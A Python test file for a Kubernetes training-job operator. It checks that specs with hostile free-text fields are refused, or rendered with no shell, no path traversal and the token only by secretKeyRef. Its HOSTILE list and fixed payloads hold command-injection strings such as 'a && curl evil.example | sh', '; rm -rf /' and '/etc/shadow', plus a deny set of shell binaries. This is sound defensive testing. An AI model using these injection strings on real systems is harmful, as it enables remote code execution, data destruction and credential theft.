"""Bad and hostile input: generated specs with shell metacharacters, path traversal and junk in
every free-text field; specs the schema admits but that cannot run; and the security
properties of everything the operator renders (no shell, no way out of the run directory,
the HF token only by secretKeyRef, restricted pods, no Secret reads)."""

from __future__ import annotations

import copy
import json
import posixpath
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from spin_operator import launchers
from spin_operator.builders import meta
from spin_operator.builders import pod as pod_builder
from spin_operator.kube.objects import Observed
from spin_operator.reconcile.actions import Create
from spin_operator.reconcile.decide import reconcile
from spin_operator.render import render_objects
from spin_runtime.api.load import SpecError, validate_data
from spin_runtime.api.spec import SpinRun
from spin_runtime.cli import main as spin_main
from tests.admission import Admission
from tests.operator.sim import T0
from tests.reliability.conftest import Tally
from tests.test_validation import FIELD_LINE

REPO = Path(__file__).resolve().parents[2]

HOSTILE = [
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "; rm -rf /",
    "a && curl evil.example | sh",
    "'; drop table runs; --",
    "$HF_TOKEN",
    "$(HF_TOKEN)",
    "${HOME}",
    "../../etc",
    "../../../../etc/passwd",
    "/etc/shadow",
    "runs/../../x",
    "..",
    "-rf",
    "--run-dir=/",
    "a\nb",
    "\x00",
    "\u202e\u0645",
    "x" * 300,
    "*",
    "~root",
    "|",
    "\\\\server\\share",
]

#: Every free-text field of the spec (not a closed enum, number or flag), as a path.
FREE_TEXT: list[tuple[Any, ...]] = [
    ("metadata", "name"),
    ("metadata", "namespace"),
    ("spec", "model", "path"),
    ("spec", "model", "hub"),
    ("spec", "model", "revision"),
    ("spec", "model", "ggufFile"),
    ("spec", "startCheckpoint", "path"),
    ("spec", "dataset", "path"),
    ("spec", "dataset", "hub"),
    ("spec", "dataset", "split"),
    ("spec", "dataset", "testSplit"),
    ("spec", "dataset", "promptField"),
    ("spec", "dataset", "responseField"),
    ("spec", "dataset", "messagesField"),
    ("spec", "syntheticData", 0, "path"),
    ("spec", "syntheticData", 0, "hub"),
    ("spec", "syntheticData", 0, "split"),
    ("spec", "storage", "subPath"),
    ("spec", "storage", "existingClaim"),
    ("spec", "images", "generator"),
    ("spec", "images", "trainer"),
    ("spec", "hfTokenSecret", "name"),
    ("spec", "hfTokenSecret", "key"),
    ("spec", "env", 0, "name"),
    ("spec", "env", 0, "value"),
    ("spec", "queueName"),
    ("spec", "nodeSelector", "disk"),
    ("spec", "tolerations", 0, "key"),
    ("spec", "tolerations", 0, "value"),
    ("spec", "priorityClassName"),
    ("spec", "serviceAccountName"),
    ("spec", "imagePullSecrets", 0, "name"),
    ("spec", "training", "lora", "targetModules", 0),
    ("spec", "evaluation", "lmEval", "tasks", 0, "name"),
]

BASE: dict[str, Any] = {
    "apiVersion": "spin.dev/v1alpha1",
    "kind": "SpinRun",
    "metadata": {"name": "hostile", "namespace": "team-a"},
    "spec": {
        "model": {"path": "/models/base"},
        "startCheckpoint": {"path": "/models/ckpt"},
        "dataset": {"path": "/data/sft.jsonl"},
        "iterations": 2,
        "startIteration": 0,
        "syntheticData": [{"iteration": 1, "path": "/data/syn1"}],
        "storage": {"existingClaim": "pvc", "subPath": "runs"},
        "images": {"generator": "reg/gen:1", "trainer": "reg/train:1"},
        "hfTokenSecret": {"name": "hf", "key": "token"},
        "env": [{"name": "MY_VAR", "value": "v"}],
        "queueName": "q",
        "nodeSelector": {"disk": "ssd"},
        "tolerations": [{"key": "k", "operator": "Equal", "value": "v", "effect": "NoSchedule"}],
        "priorityClassName": "high",
        "serviceAccountName": "spin",
        "imagePullSecrets": [{"name": "pull"}],
        "training": {"gpusPerNode": 1, "nodes": 2, "lora": {"enabled": True, "targetModules": ["q_proj"]}},
        "evaluation": {"lmEval": {"enabled": True, "tasks": [{"name": "gsm8k"}]}},
    },
}


def _set(doc: Any, path: tuple[Any, ...], value: Any) -> None:
    for el in path[:-1]:
        doc = doc[el]
    doc[path[-1]] = value


def _model_source_fix(doc: dict[str, Any]) -> None:
    """Keep one-of sources one-of, so the hostile string is what is tested."""
    spec = doc["spec"]
    for key in ("model", "startCheckpoint"):
        src = spec[key]
        if "hub" in src and "path" in src and "ggufFile" not in src:
            del src["path"]
    if "hub" in spec["dataset"] and "path" in spec["dataset"]:
        del spec["dataset"]["path"]
    syn = spec["syntheticData"][0]
    if "hub" in syn and "path" in syn:
        del syn["path"]


#: Fields whose (validated) value is part of the run directory in every command line.
IN_RUN_DIR = {("metadata", "name"), ("spec", "storage", "subPath")}


@st.composite
def hostile_specs(draw: st.DrawFn) -> tuple[dict[str, Any], list[str]]:
    """A full spec with 1-6 free-text fields replaced by hostile or random text, and the texts
    that must never show up in a command line."""
    doc = copy.deepcopy(BASE)
    fields = draw(st.lists(st.sampled_from(FREE_TEXT), min_size=1, max_size=6, unique=True))
    watch = []
    for path in fields:
        value = draw(st.sampled_from(HOSTILE) | st.text(min_size=0, max_size=40))
        _set(doc, path, value)
        if path not in IN_RUN_DIR and (value in HOSTILE or len(value) >= 8):
            watch.append(value)
    _model_source_fix(doc)
    return doc, watch


# --------------------------------------------------------------------------- rendered objects


def pods_of(obj: dict[str, Any]) -> list[dict[str, Any]]:
    if obj["kind"] == "Job":
        return [obj["spec"]["template"]["spec"]]
    if obj["kind"] == "PyTorchJob":
        return [r["template"]["spec"] for r in obj["spec"]["pytorchReplicaSpecs"].values()]
    if obj["kind"] == "TrainJob":  # the trainer's pod: the runtime's `node` with our trainer fields and patches
        trainer = obj["spec"]["trainer"]
        (patch,) = obj["spec"]["runtimePatches"]
        (node,) = patch["trainingRuntimeSpec"]["template"]["spec"]["replicatedJobs"]
        pod = copy.deepcopy(node["template"]["spec"]["template"]["spec"])
        (container,) = pod["containers"]
        container.update(command=trainer["command"], env=trainer["env"], image=trainer["image"])
        return [pod]
    return []


SHELLS = {"sh", "bash", "/bin/sh", "/bin/bash", "dash", "zsh", "ash", "busybox", "env", "/usr/bin/env", "python", "python3"}


def check_rendered(objs: list[dict[str, Any]], run: SpinRun, hostile: list[str]) -> int:
    """The security properties of every rendered object; returns the number of containers."""
    run_dir = pod_builder.run_dir(run.metadata.name, run.spec)
    assert posixpath.normpath(run_dir) == run_dir and run_dir.startswith(f"{pod_builder.DATA_MOUNT}/")
    containers = 0
    for obj in objs:
        for pod in pods_of(obj):
            psc = pod["securityContext"]
            assert psc["runAsNonRoot"] is True and psc["runAsUser"] != 0 and psc.get("runAsGroup") != 0
            assert "hostNetwork" not in pod and "hostPID" not in pod and "hostIPC" not in pod
            assert not any("hostPath" in v for v in pod["volumes"])
            for c in pod.get("initContainers", []) + pod["containers"]:
                containers += 1
                sc = c["securityContext"]
                assert sc["allowPrivilegeEscalation"] is False and sc["capabilities"] == {"drop": ["ALL"]}
                assert sc["runAsNonRoot"] is True and sc.get("privileged") is not True
                argv = list(c["command"]) + list(c.get("args") or [])
                assert isinstance(c["command"], list) and all(isinstance(a, str) for a in argv)
                assert argv[0] in ("spin", "torchrun") and argv[0] not in SHELLS
                assert "-c" not in argv and not any(a in SHELLS for a in argv), argv
                for a in argv:
                    assert "$(" not in a and "`" not in a, f"a value Kubernetes or a shell would expand: {a!r}"
                    for h in hostile:
                        assert h not in a, f"spec text {h!r} reached the command line: {argv}"
                    if a.startswith(pod_builder.DATA_MOUNT):
                        assert posixpath.normpath(a).startswith(run_dir), f"{a} outside the run directory"
                for e in c.get("env") or []:
                    if e["name"] == "HF_TOKEN":
                        assert set(e) == {"name", "valueFrom"} and set(e["valueFrom"]) == {"secretKeyRef"}, e
                if run.spec.hf_token_secret is not None and c["name"] != "init-run":
                    assert any(e["name"] == "HF_TOKEN" for e in c["env"])
    for obj in objs:
        if obj["kind"] == "ConfigMap":  # the pinned spec names the Secret, never holds a token
            data = json.loads(obj["data"][pod_builder.SPEC_KEY])
            assert "valueFrom" not in json.dumps(data)
    return containers


def _reconcile_twice(body: dict[str, Any]) -> tuple[Any, Any]:
    """Two passes, the second seeing the first's status and children: the second must not
    repeat the first's work (no loop)."""
    first = reconcile(body, Observed(), T0)
    body2 = {**body, "status": first.status_document()}
    created = [a.obj for a in first.actions if isinstance(a, Create)]
    name = body["metadata"]["name"]
    for o in created:
        o.setdefault("metadata", {}).setdefault("labels", {}).update(meta.labels(name))
    observed = Observed.from_objects(
        name,
        jobs=[o for o in created if o["kind"] == "Job" or launchers.by_kind(o["kind"])],
        config_maps=[o for o in created if o["kind"] == "ConfigMap"],
        services=[o for o in created if o["kind"] == "Service"],
        pvcs=[o for o in created if o["kind"] == "PersistentVolumeClaim"],
        read_state=launchers.read_state,
    )
    second = reconcile(body2, observed, T0)
    return first, second


_stats: dict[str, int] = {"generated": 0, "refused": 0, "admitted": 0, "containers": 0, "cli_checked": 0,
                          "apiserver_only_refused": 0}


@settings(max_examples=250, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(case=hostile_specs())
def test_hostile_strings_in_every_free_text_field_are_refused_or_contained(
    admission: Admission, case: tuple[dict[str, Any], list[str]], tmp_path: Path
) -> None:
    """Each spec is refused by `spin validate` (one line per problem, naming the field) and by
    the CRD (schema + CEL), or it is accepted and then: no spec text reaches a command line, no
    shell runs anything, every write path stays under /data/<subPath>/<name>, pods are
    restricted, and reconcile is stable (a second pass repeats nothing)."""
    doc, hostile = case
    _stats["generated"] += 1
    body = {**doc, "metadata": {**doc["metadata"], "uid": "u-1", "generation": 1}}
    try:
        run = validate_data(doc)
    except SpecError as e:
        _stats["refused"] += 1
        for line in e.problems:
            assert "\n" not in line and FIELD_LINE.match(line), line
        assert admission.problems(doc), f"the models refused {e.problems} but the CRD admits it"
        first, second = _reconcile_twice(body)
        assert first.actions == [] and first.status_document()["reason"] == "ValidationFailed"
        assert second.actions == [] and second.events == [] and second.status_document() == first.status_document()
        if _stats["refused"] % 10 == 1:  # the CLI on a sample of them (it reads YAML files)
            f = tmp_path / f"spec-{_stats['generated']}.yaml"
            f.write_text(yaml.safe_dump(doc, allow_unicode=False))
            try:
                expected = validate_data(yaml.safe_load(f.read_text()))
            except SpecError:
                assert spin_main(["validate", str(f)]) == 2
                _stats["cli_checked"] += 1
            else:  # pragma: no cover - YAML changed the value
                assert expected
        return
    _stats["admitted"] += 1
    if admission.problems(doc):  # the apiserver may refuse more than the models (counted, see #20)
        _stats["apiserver_only_refused"] += 1
    _stats["containers"] += check_rendered(render_objects(run, namespace="team-a"), run, hostile)
    first, second = _reconcile_twice(body)
    assert first.status_document()["phase"] != "Failed", first.status_document()
    made = {a.name for a in first.actions if isinstance(a, Create)}
    assert not ({a.name for a in second.actions if isinstance(a, Create)} & made), "a second pass re-creates"


def test_hostile_spec_statistics(tally: Tally) -> None:
    """Runs after the property test (file order): it really exercised both outcomes."""
    if not _stats["generated"]:
        pytest.skip("run together with the property test")
    assert _stats["generated"] >= 200
    assert _stats["refused"] >= 50 and _stats["admitted"] >= 25, _stats  # both paths well exercised
    assert _stats["cli_checked"] >= 5, _stats
    tally.add("specs.hostile_generated", _stats["generated"])
    tally.add("observed.hostile_specs_refused", _stats["refused"])
    tally.add("observed.hostile_specs_admitted_and_contained", _stats["admitted"])
    tally.add("observed.containers_checked", _stats["containers"])
    tally.add("observed.hostile_specs_the_apiserver_alone_refused", _stats["apiserver_only_refused"])
    tally.add("observed.shell_commands", 0)


def test_the_fixed_worst_case_spec_reaches_no_shell(tally: Tally) -> None:
    """One spec with a shell payload in every field that accepts free text."""
    doc = copy.deepcopy(BASE)
    payload = {
        ("spec", "model", "path"): "/models/$(touch /tmp/pwned)",
        ("spec", "startCheckpoint", "path"): "/m/`touch /tmp/pwned`",
        ("spec", "dataset", "path"): "/d/x; rm -rf /",
        ("spec", "dataset", "split"): "train && reboot",
        ("spec", "dataset", "promptField"): "$(id)",
        ("spec", "syntheticData", 0, "path"): "../../etc",
        ("spec", "env", 0, "value"): "$(touch /tmp/pwned); `reboot`",
        ("spec", "images", "generator"): "reg/gen:1;reboot",
        ("spec", "images", "trainer"): "reg/t:$(id)",
        # nodeSelector values and toleration values are label values now: refused before any object
        ("spec", "training", "lora", "targetModules", 0): "$(x)",
        ("spec", "evaluation", "lmEval", "tasks", 0, "name"): "; rm -rf /",
    }
    for path, value in payload.items():
        _set(doc, path, value)
    run = validate_data(doc)
    objs = render_objects(run, namespace="team-a")
    assert check_rendered(objs, run, list(payload.values())) >= 8
    env = [e for o in objs for p in pods_of(o) for c in p["containers"] for e in c["env"] if e["name"] == "MY_VAR"]
    assert env and all(e["value"] == "$(touch /tmp/pwned); `reboot`" for e in env), "kept literally, in env only"
    tally.add("specs.hostile_fixed", 1)


@pytest.mark.parametrize(("path", "value"), [
    (("spec", "storage", "subPath"), "../../etc"),
    (("spec", "storage", "subPath"), "runs/../../etc"),
    (("spec", "storage", "subPath"), "/etc"),
    (("spec", "storage", "subPath"), ".."),
    (("metadata", "name"), "../x"),
    (("metadata", "name"), "a/b"),
    (("metadata", "name"), ".."),
    (("spec", "hfTokenSecret", "name"), "../x"),
    (("spec", "storage", "existingClaim"), "../pvc"),
    (("spec", "env", 0, "name"), "LD_PRELOAD=/x"),
    (("spec", "env", 0, "name"), "HF_TOKEN"),
    (("spec", "env", 0, "name"), "MASTER_ADDR"),
    (("spec", "images", "trainer"), "reg/t:1 --privileged"),
    (("spec", "queueName"), "q; rm -rf /"),
])
def test_traversal_and_injection_in_write_paths_and_names_are_refused_twice(
    path: tuple[Any, ...], value: str, tmp_path: Path, tally: Tally, capsys: pytest.CaptureFixture[str],
    admission: Admission,
) -> None:
    """Fields that shape where runs write, object names or the environment refuse hostile values
    in `spin validate` (naming the field) and in the apiserver (the CRD)."""
    doc = copy.deepcopy(BASE)
    _set(doc, path, value)
    f = tmp_path / "run.yaml"
    f.write_text(yaml.safe_dump(doc))
    assert spin_main(["validate", str(f)]) == 2
    err = capsys.readouterr().err.splitlines()
    names = [p for p in path if isinstance(p, str)]
    assert any(f"{names[-2]}" in line and str(f) in line for line in err), err  # e.g. "spec.env[0]: ..." or "storage.subPath"
    assert admission.problems(doc), f"the CRD admits {path}={value!r}"
    tally.add("specs.traversal_or_injection", 1)


# --------------------------------------------------------------------------- semantically impossible


def _body(spec: dict[str, Any], name: str = "r") -> dict[str, Any]:
    return {"apiVersion": "spin.dev/v1alpha1", "kind": "SpinRun",
            "metadata": {"name": name, "namespace": "ns", "uid": "u", "generation": 1}, "spec": spec}


PYDANTIC_ONLY = {
    # objects that reach the operator without the CRD's checks (created before a CRD upgrade,
    # or with the CRD's validation off): the operator is the last line
    "name with a dot": ({}, "a.b"),
    "name starting with a digit": ({}, "1run"),
    "name too long for child names": ({}, "r" * 41),
    "iterations 0": ({"iterations": 0}, "r"),
    "prompt longer than the sequence": ({"training": {"maxLength": 32, "maxPromptLength": 64}}, "r"),
    "two storage kinds": ({"storage": {"existingClaim": "p", "newClaim": {}}}, "r"),
    "subPath traversal": ({"storage": {"existingClaim": "p", "subPath": "../x"}}, "r"),
    "reserved env": ({"env": [{"name": "MASTER_ADDR", "value": "x"}]}, "r"),
    "unknown field": ({"trainig": {}}, "r"),
    "syntheticData twice": ({"iterations": 2, "syntheticData": [{"iteration": 1, "hub": "a/b"}, {"iteration": 1, "hub": "c/d"}]}, "r"),
}


@pytest.mark.parametrize("case", list(PYDANTIC_ONLY))
def test_invalid_specs_get_validation_failed_and_reconcile_is_stable(case: str, tally: Tally) -> None:
    spec, name = PYDANTIC_ONLY[case]
    first, second = _reconcile_twice(_body(spec, name))
    assert first.actions == []
    st = first.status_document()
    assert st["phase"] == "Failed" and st["reason"] == "ValidationFailed" and "fix and reapply" in st["message"]
    vf = next(c for c in st["conditions"] if c["type"] == "ValidationFailed")
    assert vf["status"] == "True"
    assert [e[1] for e in first.events] == ["ValidationFailed"]
    assert second.actions == [] and second.events == [] and second.status_document() == st, "a second pass must change nothing"
    tally.add("specs.invalid_reconciled", 1)


IMPOSSIBLE = {
    "ZeRO-2 with parameter offload": {"training": {"gpusPerNode": 8, "deepspeed": {"stage": 2, "offloadParams": True}}},
    "fp16 training on CPU": {"training": {"gpusPerNode": 0, "precision": "fp16"}},
    "LoRA on lm_head": {"training": {"lora": {"enabled": True, "targetModules": ["lm_head"]}}},
}


@pytest.mark.parametrize("case", list(IMPOSSIBLE))
def test_combinations_training_would_refuse_are_refused_before_any_job(case: str, admission: Admission) -> None:
    """Settings train_config.py can't honour are refused by validation, the CRD (CEL) and the
    reconcile (ValidationFailed, no Job), not discovered by the training pod after generation."""
    spec = IMPOSSIBLE[case]
    doc = _body(spec)
    assert not _valid(spec), "pydantic must refuse it"
    assert admission.problems({**doc, "metadata": {"name": "r"}}), "the apiserver (the CRD's CEL rules) must refuse it"
    first, second = _reconcile_twice(doc)
    assert first.status_document()["reason"] == "ValidationFailed" and first.actions == [], first.status_document()
    assert second.actions == []


def _valid(spec: dict[str, Any]) -> bool:
    try:
        SpinRun.model_validate({"metadata": {"name": "r"}, "spec": spec})
    except Exception:
        return False
    return True


# --------------------------------------------------------------------------- Secrets


def test_the_operator_never_requests_a_secret_on_a_real_cluster(kube: Any, tally: Tally) -> None:
    """A run whose pods take the Hugging Face token from a Secret completes on the real cluster,
    the kubelet handing the token to the pods; the apiserver's audit log shows every request the
    operator made, and none touched a Secret (the chart grants none: RBAC would refuse it too)."""
    from tests.kube import OPERATOR_USERS
    from tests.operator.e2e import e2e, run_body

    with e2e(kube) as c:
        c.core.create_namespaced_secret(c.namespace, {"metadata": {"name": "hf"}, "stringData": {"token": "hf_x"}})
        c.start_operator()
        c.create_run(run_body(spec={"iterations": 1, "hfTokenSecret": {"name": "hf", "key": "token"}}))
        run = c.wait_phase("e2e", ("Complete", "Failed"), 120)
        assert run["status"]["phase"] == "Complete", run["status"]
        made = [e for e in kube.audit() if e["user"]["username"].startswith(OPERATOR_USERS)]
    resources = {(e.get("objectRef") or {}).get("resource") for e in made}
    assert {"jobs", "spinruns"} <= resources, "an empty record proves nothing"
    assert "secrets" not in resources, [e["requestURI"] for e in made if "secret" in e["requestURI"]]
    tally.add("observed.secret_requests", 0)


@pytest.mark.parametrize("launcher", ["indexedjob", "pytorchjob", "trainjob"])
@pytest.mark.parametrize("nodes", [1, 2])
def test_hf_token_only_by_secret_key_ref_in_every_pod(launcher: str, nodes: int) -> None:
    spec = {"hfTokenSecret": {"name": "hf-token", "key": "tok"}, "iterations": 2,
            "training": {"launcher": launcher, "nodes": nodes, "gpusPerNode": 2},
            "storage": {"newClaim": {"accessModes": ["ReadWriteMany"]}},
            "env": [{"name": "OTHER", "value": "x"}]}
    run = SpinRun.model_validate({"metadata": {"name": "tok"}, "spec": spec})
    objs = render_objects(run)
    pods = [p for o in objs for p in pods_of(o)]
    assert len(pods) >= 4
    for pod in pods:
        for c in pod["containers"]:
            tokens = [e for e in c["env"] if e["name"] == "HF_TOKEN"]
            assert tokens == [{"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "hf-token", "key": "tok"}}}]
        for c in pod.get("initContainers", []):  # init-run needs no token (a TrainJob has none)
            assert all(e["name"] != "HF_TOKEN" for e in c.get("env") or [])
        assert not any("secret" in v for v in pod["volumes"]), "no Secret volumes"
    check_rendered(objs, run, [])
